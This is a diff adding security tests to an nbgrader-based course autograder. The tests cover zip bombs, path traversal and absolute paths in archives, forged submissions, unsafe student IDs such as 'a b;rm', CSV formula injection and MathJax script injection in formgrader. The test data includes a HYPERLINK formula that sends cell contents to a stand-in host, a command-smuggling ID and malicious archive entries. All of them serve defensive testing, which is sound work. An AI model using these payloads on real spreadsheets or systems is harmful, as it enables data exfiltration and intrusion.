@@ -43,7 +43,7 @@ def test_collect_a_canvas_download(tmp_path):
     assert "derivation.pdf: not a notebook (.pdf)" in out
     assert "ch9_unknown.ipynb: not a notebook of ch2_forward" in out
     assert ".DS_Store: hidden or system file" in out and "__MACOSX" in out
-    assert "inessilva_41056_900104_ch2_forward.ipynb: older submission of 41056" in out
+    assert "silva--ines_41056_900104_ch2_forward.ipynb: older submission of 41056" in out
     submitted = tmp_path / "root" / "submitted"
     # renamed copies land at nbgrader's standard path
     for sid in ("41021", "41028"):                        # "ch2_forward (1).ipynb", "ch2_forward-1.ipynb"
@@ -64,9 +64,9 @@ def test_collect_a_canvas_download(tmp_path):
     late = tmp_path / "later"
     late.mkdir()
     with zipfile.ZipFile(archive) as z:
-        info = z.getinfo("adalovelace_41000_900000_ch2_forward.ipynb")
+        info = z.getinfo("lovelace--ada_41000_900000_ch2_forward.ipynb")
         data = z.read(info)
-    newer = zipfile.ZipInfo("adalovelace_41000_900999_ch2_forward.ipynb", date_time=(2026, 10, 5, 22, 0, 0))
+    newer = zipfile.ZipInfo("lovelace--ada_41000_900999_ch2_forward.ipynb", date_time=(2026, 10, 5, 22, 0, 0))
     with zipfile.ZipFile(late / "resubmitted.zip", "w") as z:
         z.writestr(newer, data)
     done = run_cli("collect", A, str(late / "resubmitted.zip"), env=env)
@@ -92,10 +92,155 @@ def test_collect_a_folder_with_a_custom_pattern(tmp_path):
     (folder / "week2" / f"s-17--{A}.ipynb").write_bytes(src.read_bytes())
     (folder / "week2" / "s-18--notes.txt").write_text("hello")
     env = {"BN_GRADER_ROOT": str(tmp_path / "root")}
-    done = run_cli("collect", A, str(folder), "--pattern", r"(?:^|/)(?P<student_id>s-\d+)--(?P<file_id>[^/]+)$", env=env)
+    done = run_cli("collect", A, str(folder), "--pattern", r"week2/(?P<student_id>s-\d+)--(?P<file_id>[^/]+)$", env=env)
     assert done.returncode == 0, done.stderr[-2000:]
     assert "collected 1 submission(s)" in done.stdout and "s-18--notes.txt: not a notebook (.txt)" in done.stdout
     assert (tmp_path / "root" / "submitted" / "s-17" / A / f"{A}.ipynb").is_file()
+
+
+# ---- collect: a download no student can steer (issue 25) ----------------------------------------
+
+def _notebook_bytes() -> bytes:
+    return (Path(__file__).resolve().parents[1] / "exercises" / A / f"{A}.ipynb").read_bytes()
+
+
+def _entry(name: str, when=(2026, 10, 4, 12, 0, 0), mode: int | None = None) -> zipfile.ZipInfo:
+    info = zipfile.ZipInfo(name, date_time=when)
+    info.compress_type = zipfile.ZIP_DEFLATED
+    if mode is not None:
+        info.external_attr = mode << 16
+    return info
+
+
+@pytest.mark.parametrize("name,student,late", [
+    # as Canvas's zipper writes them: sortable name, " LATE_", non-word characters to "-", downcased
+    ("lovelace--ada_41000_900000_ch2_forward.ipynb", "41000", False),
+    ("lovelace--ada-late_41000_900000_ch2_forward.ipynb", "41000", True),
+    ("o-brien--mary-jane-late_41007_900013_ch2_forward-1.ipynb", "41007", True),
+    ("o_brien--ann_41014_900026_ch2_forward.ipynb", "41014", False),   # \w keeps "_" in a name
+    ("berg---sum-1-1-_41063_900117_ch2_forward.ipynb", "41063", False),
+    ("smith--bob-12345--late_41070_900130_ch2_forward.ipynb", "41070", True),  # "_12345_" -> "-12345-"
+    ("adalovelace_LATE_41000_900000_ch2_forward.ipynb", "41000", True),  # older downloads
+    ("kate--blate_41077_900143_ch2_forward.ipynb", "41077", False),
+])
+def test_canvas_pattern_reads_canvas_real_names(name, student, late):
+    import re
+
+    from autograder.term.settings import PATTERNS
+    match = re.match(PATTERNS["canvas"], name)
+    assert match, name
+    assert match["student_id"] == student and bool(match["late"]) == late
+    assert match["file_id"].startswith(A)
+    # a name below a top-level entry is never a platform's entry
+    assert re.match(PATTERNS["canvas"], f"lovelace--ada_41000_900000_work/{name}") is None
+
+
+def test_zip_bomb_is_refused_before_extraction(tmp_path):
+    bomb = tmp_path / "download.zip"
+    zeros = bytes(1 << 20)
+    with zipfile.ZipFile(bomb, "w") as z:
+        with z.open(_entry(f"lovelace--ada_41000_900000_{A}.ipynb"), "w") as f:
+            for _ in range(400):                      # 400 MiB once extracted
+                f.write(zeros)
+    assert bomb.stat().st_size < 1 << 20              # a small download
+    env = {"BN_GRADER_ROOT": str(tmp_path / "root")}
+    done = run_cli("collect", A, str(bomb), env=env)
+    assert done.returncode != 0
+    assert "zip bomb, refused before extraction" in done.stderr and "Traceback" not in done.stderr, done.stderr
+    written = [p for p in (tmp_path / "root").rglob("*") if p.is_file()]
+    assert sum(p.stat().st_size for p in written) < 1 << 20, written   # nothing was extracted
+
+
+def test_collect_takes_only_what_the_platform_put_there(tmp_path):
+    import io
+    import stat
+    honest, marker = _notebook_bytes(), uuid_marker()
+    forged = honest.replace(b'"cells": [', b'"cells": [{"cell_type": "markdown", "metadata": {}, "source": "'
+                            + marker.encode() + b'"},', 1)
+    inner = io.BytesIO()                                # a zip a student uploaded: forges 41056, invents 49999
+    with zipfile.ZipFile(inner, "w") as z:
+        z.writestr(_entry(f"silva--ines_41056_900999_{A}.ipynb", when=(2026, 10, 5, 23, 0, 0)), forged)
+        z.writestr(_entry(f"nobody_49999_1_{A}.ipynb"), forged)
+    outside = Path("/tmp") / f"abs-{marker}.ipynb"
+    download = tmp_path / "download.zip"
+    with zipfile.ZipFile(download, "w") as z:
+        z.writestr(_entry(f"lovelace--ada_41000_900000_{A}.ipynb"), honest)
+        z.writestr(_entry(f"silva--ines_41056_900104_{A}.ipynb", when=(2026, 10, 3, 9, 0, 0)), honest)
+        z.writestr(_entry("lovelace--ada_41000_900000_work.zip"), inner.getvalue())
+        z.writestr(_entry("okafor--ben_41007_900013_run.sh", mode=stat.S_IFREG | 0o4755), b"#!/bin/sh\n")
+        z.writestr(_entry("martin--chloe_41014_900026_locked/", mode=stat.S_IFDIR | 0o000), b"")
+        z.writestr(_entry(f"martin--chloe_41014_900026_locked/{A}.ipynb", mode=stat.S_IFREG | 0o000), honest)
+        z.writestr(_entry(f"../patel--dev_41021_900039_{A}.ipynb"), forged)
+        z.writestr(_entry(str(outside)), forged)
+    env = {"BN_GRADER_ROOT": str(tmp_path / "root")}
+    done = run_cli("collect", A, str(download), env=env)
+    assert done.returncode == 0, done.stderr[-2000:]
+    out = done.stdout
+    submitted = tmp_path / "root" / "submitted"
+    assert sorted(p.name for p in submitted.iterdir()) == ["41000", "41056"], out
+    assert marker not in (submitted / "41056" / A / f"{A}.ipynb").read_text()       # not replaced
+    assert (submitted / "41056" / A / "timestamp.txt").read_text().startswith("2026-10-03 09:00")
+    assert "lovelace--ada_41000_900000_work.zip: not a notebook (.zip)" in out, out
+    assert "refused: a '..' in the path" in out and "refused: an absolute path" in out, out
+    assert not outside.exists() and not (tmp_path / "root" / "downloaded" / A / f"patel--dev_41021_900039_{A}.ipynb").exists()
+    assert not list(tmp_path.rglob("*41021*"))
+    extracted = tmp_path / "root" / "downloaded" / A / "extracted"
+    for path in [extracted, *extracted.rglob("*")]:     # the course's modes, not the zip's
+        mode = stat.S_IMODE(path.lstat().st_mode)
+        assert mode == (0o755 if path.is_dir() else 0o644), (path, oct(mode))
+    assert (extracted / "download" / "okafor--ben_41007_900013_run.sh").is_file()
+
+
+def uuid_marker() -> str:
+    import uuid
+    return f"FORGED-{uuid.uuid4().hex[:8]}"
+
+
+def test_unsafe_ids_are_refused_in_collect_and_roster(tmp_path):
+    download = tmp_path / "download.zip"
+    with zipfile.ZipFile(download, "w") as z:
+        z.writestr(_entry(f"41000/{A}.ipynb"), _notebook_bytes())
+        z.writestr(_entry(f"*/{A}.ipynb"), _notebook_bytes())        # nbgrader reads ids as globs
+        z.writestr(_entry(f"a b;rm/{A}.ipynb"), _notebook_bytes())
+    env = {"BN_GRADER_ROOT": str(tmp_path / "root")}
+    done = run_cli("collect", A, str(download), "--lms", "plain", env=env)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert "collected 1 submission(s)" in done.stdout, done.stdout
+    assert "student id '*' refused (letters, digits and . _ - @ only" in done.stdout, done.stdout
+    assert "student id 'a b;rm' refused" in done.stdout
+    assert sorted(p.name for p in (tmp_path / "root" / "submitted").iterdir()) == ["41000"]
+    from autograder.term.roster import read_roster
+    for bad in ("*", "a\nb", "../x", "x" * 65, ".hidden"):
+        roster = tmp_path / "roster.csv"
+        with open(roster, "w", newline="") as f:
+            csv.writer(f).writerows([["id", "name", "email"], ["41000", "Ada", ""], [bad, "Eve", ""]])
+        with pytest.raises(SystemExit, match="refused"):
+            read_roster(roster)
+    assert [r["id"] for r in read_roster(_roster(tmp_path, "ada.l@uni-x.example"))] == ["41000", "ada.l@uni-x.example"]
+
+
+def _roster(tmp: Path, extra: str) -> Path:
+    path = tmp / "ok.csv"
+    with open(path, "w", newline="") as f:
+        csv.writer(f).writerows([["id", "name", "email"], ["41000", "Ada", ""], [extra, "Eve", ""]])
+    return path
+
+
+def test_grade_refuses_a_submitted_folder_that_is_not_an_id(tmp_path):
+    root = tmp_path / "root"
+    for sid in ("*", "two\nlines", "41000"):
+        (root / "submitted" / sid / A).mkdir(parents=True)
+        (root / "submitted" / sid / A / f"{A}.ipynb").write_bytes(_notebook_bytes())
+    done = run_cli("grade", A, "--quiet", "--no-feedback", env={"BN_GRADER_ROOT": str(root)})
+    assert done.returncode == 0, (done.stdout + done.stderr)[-3000:]
+    lines = {ln.split()[0]: ln for ln in done.stdout.splitlines() if ln.split()}
+    for shown in ("*", "two\\nlines"):
+        assert "refused  REFUSED: submitted/" in lines[shown] and "is not a student id" in lines[shown], done.stdout
+        assert "could not autograde" not in lines[shown]
+    assert "41000" in lines and "REFUSED" not in lines["41000"]
+    from nbgrader.api import Gradebook
+    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
+        assert sorted(s.id for s in gb.students) == ["41000"]
 
 
 @pytest.mark.parametrize("args,message", [
@@ -123,6 +268,37 @@ def test_late_policy_and_neutral_csv(tmp_path):
     text = dest.read_text()
     assert "\"'=SUM(1+1)\"" in text and "\"'+1\"" in text and "\"'@cmd\"" in text and "\"'-x\"" in text
     assert "\n\"plain\",1\n" in text.replace("\r\n", "\n")
+
+
+# Every character a spreadsheet may skip before a formula: Unicode whitespace, and the invisible
+# format characters (zero-width space, BOM) that an editor lets through.
+_LEADING = [chr(c) for c in range(0x3001) if chr(c).isspace()] + ["\u200b", "\ufeff", "\u2060"]
+_FORMULA = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
+
+
+def _read_as_formula(cell: str) -> bool:
+    """What a spreadsheet does with a text field: leading blanks skipped, then a formula sign."""
+    return cell.lstrip("".join(_LEADING))[:1] in _FORMULA
+
+
+def test_csv_guard_sees_through_leading_whitespace(tmp_path):
+    from autograder.grader.grades import write_csv
+    from autograder.grader.safety import csv_cell
+    assert len(_LEADING) > 25 and "\t" in _LEADING and "\u00a0" in _LEADING and "\u3000" in _LEADING
+    attacks = [lead + sign + 'HYPERLINK("http://x.example/?"&A1,"open")'
+               for lead in ["", *_LEADING, "\t \u00a0", "\r\n"] for sign in _FORMULA]
+    escaped = [a for a in attacks if _read_as_formula(csv_cell(a))]
+    assert escaped == [], f"{len(escaped)} formulas escape the guard, e.g. {escaped[:3]!r}"
+    assert all("HYPERLINK" in csv_cell(a) for a in attacks)           # shown, not dropped
+    # the tab of the issue: it becomes a space, and the formula behind it is still neutralized
+    assert csv_cell("\t=HYPERLINK(1)").startswith("'")
+    for text in ("plain", " leading space", "a=b", "x-1", "\u00a0text"):
+        assert csv_cell(text) == text                                   # ordinary text unchanged
+    # through the CSV writer and back, as a spreadsheet reads the file
+    rows = [[a, 1] for a in attacks]
+    dest = write_csv(tmp_path / "x.csv", ["name", "score"], rows)
+    read = _rows(dest)
+    assert len(read) == len(attacks) and not [r["name"] for r in read if _read_as_formula(r["name"])]
 
 
 # ---- the whole term: grade, written answers, export -------------------------------------------------
@@ -196,10 +372,11 @@ def test_export_for_canvas_and_moodle(term_class):
     assert moodle["41056"][f"{A} feedback"] == "missing: no submission"
     assert moodle["41000"]["Email address"] == "ada.lovelace@uni.example"
     with zipfile.ZipFile(out / "feedback" / A / "41000.zip") as z:
-        assert z.namelist() == [f"{A}_feedback_{A}.html"]
-        assert "Score" in z.read(z.namelist()[0]).decode()
+        assert [n for n in z.namelist() if not n.startswith("_mathjax/")] == [f"{A}_feedback_{A}.html"]
+        assert "Score" in z.read(f"{A}_feedback_{A}.html").decode()
+        assert "_mathjax/tex-chtml.js" in z.namelist()                 # math renders offline
     with zipfile.ZipFile(out / "feedback" / f"{A}_canvas_upload.zip") as z:
-        assert "adalovelace_41000_900000_ch2_forward_feedback_ch2_forward.html" in z.namelist()
+        assert "lovelace--ada_41000_900000_ch2_forward_feedback_ch2_forward.html" in z.namelist()
         assert len(z.namelist()) == 8
     late = (root / "feedback" / "41042" / A / f"{A}.html").read_text()
     assert "Late submission penalty" in late
@@ -215,6 +392,7 @@ def test_formgrader_grades_a_written_answer(term_class, tmp_path):
     import time
     import urllib.request
 
+    import nbformat
     from test_site import CHROMIUM, FLAGS
     root, env, _ = term_class
     from nbgrader.api import Gradebook
@@ -223,6 +401,15 @@ def test_formgrader_grades_a_written_answer(term_class, tmp_path):
     assert run_cli("export", A, "--no-feedback", env=env).returncode == 0
     before = {r["ID"]: r for r in _rows(root / "export" / "canvas_grades.csv")}["41007"][A]
     assert float(before) == AUTO
+
+    # the student's written answer as formgrader shows it carries TeX that would link and cover
+    # the page (issue 25): formgrader's MathJax is the course's safe copy, served locally
+    from test_render_safety import AUDIT, VECTORS
+    autograded = root / "autograded" / "41007" / A / f"{A}.ipynb"
+    nb = nbformat.read(autograded, as_version=4)
+    answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "written_biased_variance")
+    answer.source += "\n\n" + "\n\n".join(VECTORS)
+    nbformat.write(nb, autograded)
 
     with socket.socket() as s:
         s.bind(("127.0.0.1", 0))
@@ -247,12 +434,32 @@ def test_formgrader_grades_a_written_answer(term_class, tmp_path):
         with sync_playwright() as p:
             browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
             page = browser.new_page()
+            outside, scripts = [], []
+
+            def route(r):  # nothing leaves the machine: a CDN request is recorded and refused
+                if r.request.url.startswith(base):
+                    if r.request.resource_type == "script":
+                        scripts.append(r.request.url.split("?")[0])
+                    r.continue_()
+                else:
+                    outside.append(r.request.url)
+                    r.abort()
+            page.route("**/*", route)
             page.goto(f"{base}/login?token={token}")          # Jupyter's login cookie
             with page.expect_response(lambda r: "/formgrader/api/grades" in r.url and r.ok, timeout=60000):
                 page.goto(f"{base}/formgrader/submissions/{notebook_id}/")
             box = page.locator("input.score#written_biased_variance")
             box.wait_for(timeout=60000)
             assert "Because batch normalization normalizes the batch" in page.content()
+            page.wait_for_function("() => window.MathJax && MathJax.startup && MathJax.startup.promise", timeout=60000)
+            page.evaluate("() => MathJax.startup.promise")
+            assert outside == [], f"formgrader's page reached out: {outside[:3]}"
+            assert f"{base}/static/mathjax/es5/tex-chtml.js" in scripts, scripts
+            assert "ui/safe" in page.evaluate("() => MathJax.config.loader.load.join(' ')")
+            assert page.locator("#notebook mjx-container").count() >= len(VECTORS)
+            assert page.evaluate(AUDIT, "#notebook *") == []
+            page.locator("#notebook mjx-container").first.dispatch_event("click")
+            assert page.evaluate("() => window.PWNED") is None
             with page.expect_response(lambda r: "/formgrader/api/grade/" in r.url and r.request.method == "PUT"):
                 box.fill("2")
                 box.press("Tab")
